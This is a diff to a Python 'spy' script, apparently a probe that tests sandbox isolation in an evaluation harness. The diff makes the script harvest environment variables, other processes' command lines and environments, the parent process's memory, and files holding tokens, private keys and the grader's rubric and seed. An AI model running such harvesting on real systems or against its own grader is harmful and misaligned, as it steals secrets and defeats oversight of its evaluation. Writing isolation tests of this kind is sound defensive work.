@@ -26,28 +26,35 @@ def read(path, limit=4096):
         os.close(fd)
 
 
+def valuable(text):
+    """What a spy keeps (its output is capped): tokens, keys, the grader's rubric and seed."""
+    return any(word in text.upper() for word in ("TOKEN", "SECRET", "PRIVATE KEY", "--SEED", "--RUBRIC"))
+
+
 found = ["ENVIRON " + repr(dict(os.environ))]
-budget = time.monotonic() + 2  # where it can read everything (level weak) there is a lot: within its time limit
-for top in ("/tmp", "/var/tmp", "/dev/shm", "/home", os.path.expanduser("~"), "/root"):
-    for folder, _, files in os.walk(top):
-        if time.monotonic() > budget:
-            break
-        for name in files[:50]:
-            text = read(os.path.join(folder, name), 512)
-            if text:
-                found.append(f"FILE {folder}/{name}: {text!r}")
-try:
+try:  # the most valuable first (its output is capped): other processes' environments and arguments
     pids = [p for p in os.listdir("/proc") if p.isdigit()]
 except OSError:
     pids = []
 for pid in pids:
-    found.append(f"PROC {pid} {read(f'/proc/{pid}/cmdline')!r} {read(f'/proc/{pid}/environ')!r}")
+    seen = f"{read(f'/proc/{pid}/cmdline', 1000)!r} {read(f'/proc/{pid}/environ', 8000)!r}"
+    if valuable(seen):
+        found.append(f"PROC {pid} {seen}")
 try:
     with open(f"/proc/{os.getppid()}/mem", "rb") as fh:
         fh.seek(0x400000)
         found.append(f"MEM {fh.read(64)!r}")
 except (OSError, ValueError):
     pass
+budget = time.monotonic() + 2  # where it can read everything (level weak) there is a lot: within its time limit
+for top in (os.path.expanduser("~"), "/home", "/root", "/tmp", "/var/tmp", "/dev/shm"):
+    for folder, _, files in os.walk(top):
+        if time.monotonic() > budget:
+            break
+        for name in files[:50]:
+            text = read(os.path.join(folder, name), 2000)
+            if valuable(text) or (name.endswith(".py") and "dropout" in folder):
+                found.append(f"FILE {folder}/{name}: {text[:300]!r}")
 print("\n".join(found)[:200_000], flush=True)
 
 
